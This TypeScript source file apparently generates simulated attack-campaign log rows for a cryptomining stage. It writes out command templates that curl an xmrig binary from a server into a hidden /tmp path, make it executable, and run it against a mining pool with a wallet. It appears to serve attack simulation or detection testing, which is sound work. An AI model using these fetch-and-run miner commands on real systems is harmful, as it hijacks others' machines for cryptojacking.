import type { Attack, Row } from './campaign.ts'
import { run } from './campaign.ts'

/** What ends most campaigns: a miner is fetched and started by a process that has a name. */
export function mine(
  { pool, server, wallet }: Attack,
  at: string,
  step: number,
  by: string,
  options: { readonly path?: string; readonly fetch?: boolean; readonly as?: string } = {}
): readonly Row[] {
  const path = options.path ?? '/tmp/.x/xmrig'
  const line = `${path} -o ${pool.host}:${pool.port} -u ${wallet} -k --donate-level=1`
  const to = [[pool.ip, pool.port]] as const
  return [
    ...(options.fetch === false
      ? []
      : ([
          [at, step, run(by, `/usr/bin/curl -fsSL -o ${path} http://${server}/x/xmrig`, { to: [[server, 80]] })],
          [at, step, run(by, `/bin/chmod +x ${path}`)]
        ] as const)),
    [at, step, run(by, line, { to, ...(options.as === undefined ? { as: `miner of ${by}` } : { as: options.as }) })]
  ]
}
